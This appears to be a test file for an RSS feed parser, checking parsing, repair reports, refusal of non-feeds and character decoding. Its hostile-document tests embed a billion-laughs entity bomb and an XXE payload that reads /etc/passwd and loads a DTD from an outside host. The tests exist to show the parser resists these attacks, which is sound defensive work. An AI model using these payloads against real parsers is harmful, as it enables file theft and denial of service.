import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { NotAFeed } from '../../../src/connector/feed/not-a-feed.ts'
import { parseFeed } from '../../../src/connector/feed/parse-feed.ts'
import { SourceChanged } from '../../../src/model/errors.ts'
import { feedCases } from './feed-cases.ts'

const url = 'https://example.org/feed'

describe('reads feeds as sites publish them', () => {
  test.each(feedCases.map(({ name, ...rest }) => [name, rest] as const))('%s', (_, { feed, items }) => {
    const parsed = parseFeed(feed, { url })
    const compared = parsed.items.map((item, index) =>
      Object.fromEntries(Object.keys(items[index] ?? {}).map((key) => [key, item[key as keyof typeof item]])),
    )
    expect(compared).toEqual(items)
  })
})

describe('tells what it had to mend', () => {
  const item = (id: string) => `<item><title>${id}</title><guid>${id}</guid></item>`

  test('entries with the same id are all kept and named', () => {
    const { items, problems } = parseFeed(
      `<rss><channel>${item('a')}${item('b')}${item('a')}</channel></rss>`,
      { url },
    )
    expect(items).toHaveLength(3)
    expect(problems).toEqual(['entries 1 and 3 have the same id: a'])
  })

  test('a cut document keeps its whole entries and says that one was left out', () => {
    const { items, problems } = parseFeed(
      `<rss><channel>${item('a')}<item><title>b</title><description>Half`,
      { url },
    )
    expect(items.map((entry) => entry.title)).toEqual(['a'])
    expect(problems).toEqual(['the document ends within entry 2, which was left out'])
  })

  test('a clean feed has no problems', () => {
    expect(parseFeed(`<rss><channel><title>t</title>${item('a')}</channel></rss>`, { url }).problems).toEqual(
      [],
    )
  })

  test('an empty feed is a feed', () => {
    expect(parseFeed('<rss version="2.0"><channel><title>t</title></channel></rss>', { url })).toMatchObject({
      format: 'rss',
      title: 't',
      items: [],
    })
  })
})

describe('refuses what is no feed, saying what it is', () => {
  test.each([
    [
      'an HTML page',
      '<!DOCTYPE html><html><head><title>Just a moment...</title></head></html>',
      /HTML page.*titled «Just a moment/,
    ],
    [
      'an HTML page after comments',
      '<!-- a --><!-- b -->\n<html><body><rss></rss></body></html>',
      /HTML page/,
    ],
    ['nothing', '  \n', /nothing/],
    ['JSON that is no feed', '{"error":"forbidden"}', /JSON/],
    ['cut JSON', '{"version":"https://jsonfeed.org/version/1","items":[', /JSON/],
    ['another XML document', '<?xml version="1.0"?><opml version="2.0"><body/></opml>', /<opml>/],
    ['text', 'Service unavailable', /text/],
  ])('%s', (_, answer, message) => {
    const read = () => parseFeed(answer, { url, contentType: 'text/html' })
    expect(read).toThrow(NotAFeed)
    expect(read).toThrow(SourceChanged)
    expect(read).toThrow(message)
    expect(read).toThrow(url)
  })
})

describe('is not harmed by hostile documents', () => {
  test('a billion laughs stay unsaid', () => {
    const laughs = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level || ''};`.repeat(10)}">`,
    )
    const bomb = `<!DOCTYPE rss [<!ENTITY lol "lol">${laughs.join('')}]><rss><channel><item><title>a &lol9; b</title></item></channel></rss>`
    const { items, problems } = parseFeed(bomb, { url })
    expect(items[0]?.title).toBe('a &lol9; b')
    expect(problems).toContain('9 declared entities were not expanded')
  })

  test('one long entity used many times is not multiplied', () => {
    const bomb = `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(50_000)}">]><rss><channel><item><title>${'&a;'.repeat(20_000)}</title></item></channel></rss>`
    expect(parseFeed(bomb, { url }).items[0]?.title?.length).toBe(60_000)
  })

  test('no file and no other document is read', () => {
    const theft =
      '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://e.org/x.dtd"> %p;]><rss><channel><item><title>&xxe;</title></item></channel></rss>'
    expect(parseFeed(theft, { url }).items[0]?.title).toBe('&xxe;')
  })

  test.each([
    ['100,000 open tags', `<rss><channel><item>${'<a>'.repeat(100_000)}`],
    ['100,000 open entries', `<rss>${'<item>'.repeat(100_000)}`],
    ['5,000 namespaces', `<rss ${Array.from({ length: 5000 }, (_, n) => `xmlns:n${n}="x"`).join(' ')}>`],
    ['unclosed comments before the feed', `<?xml?>${'<!--'.repeat(100_000)}<rss>`],
    ['many document types', `${'<!doctype a ['.repeat(50_000)}<rss>`],
    ['escaped open tags', `<rss><channel><item><description>${'&lt;div&gt;'.repeat(100_000)}`],
  ])('%s are read or refused', (_, document) => {
    try {
      expect(parseFeed(document, { url }).format).toBe('rss')
    } catch (error) {
      expect(error).toBeInstanceOf(NotAFeed)
    }
  })

  test('10,000 entries are all read', () => {
    const entries = Array.from(
      { length: 10_000 },
      (_, n) => `<item><title>Item ${n}</title><link>https://example.org/${n}</link></item>`,
    )
    const { items } = parseFeed(`<rss><channel>${entries.join('')}</channel></rss>`, { url })
    expect(items).toHaveLength(10_000)
    expect(items[9_999]).toEqual({ title: 'Item 9999', url: 'https://example.org/9999' })
  })

  test('any mutation of a feed is read or refused, and read twice alike', () => {
    const seeds = feedCases.map(({ feed }) => feed)
    fc.assert(
      fc.property(
        fc.constantFrom(...seeds),
        fc.array(
          fc.tuple(
            fc.nat(2000),
            fc.nat(30),
            fc.constantFrom(
              '',
              '<',
              '>',
              '&',
              '"',
              ']]>',
              '<![CDATA[',
              '</item>',
              '<item>',
              '\0',
              '<!--',
              'я',
            ),
          ),
        ),
        (seed, edits) => {
          const mutated = edits.reduce(
            (text, [at, length, put]) => text.slice(0, at) + put + text.slice(at + length),
            seed,
          )
          const read = () => {
            try {
              return parseFeed(mutated, { url })
            } catch (error) {
              if (error instanceof NotAFeed) return error.message
              throw error
            }
          }
          const feed = read()
          expect(read()).toEqual(feed)
          if (typeof feed !== 'string')
            for (const item of feed.items) expect(item.url ?? 'https:').toMatch(/^https?:/i)
        },
      ),
      { numRuns: 500 },
    )
  })
})

describe('decodes bytes', () => {
  const feed = (encoding: string) =>
    `<?xml version="1.0" encoding="${encoding}"?><rss><channel><item><title>Изъято</title></item></channel></rss>`
  const koi = (text: string) =>
    Uint8Array.from(text, (char) => (char.charCodeAt(0) < 128 ? char.charCodeAt(0) : windows1251(char)))
  const windows1251 = (char: string) => char.charCodeAt(0) - 0x410 + 0xc0

  test.each([
    ['UTF-8', new TextEncoder().encode(feed('utf-8')), undefined],
    ['windows-1251 as declared in the document', koi(feed('windows-1251')), undefined],
    ['windows-1251 as stated by the server', koi(feed('utf-8')), 'text/xml; charset=windows-1251'],
    ['UTF-16 with its mark', new Uint8Array(Buffer.from(`\ufeff${feed('utf-16')}`, 'utf16le')), undefined],
    ['an encoding nobody knows', new TextEncoder().encode(feed('x-none')), 'text/xml; charset=none'],
  ])('%s', (_, bytes, contentType) => {
    expect(parseFeed(bytes, { url, ...(contentType && { contentType }) }).items[0]?.title).toBe('Изъято')
  })
})
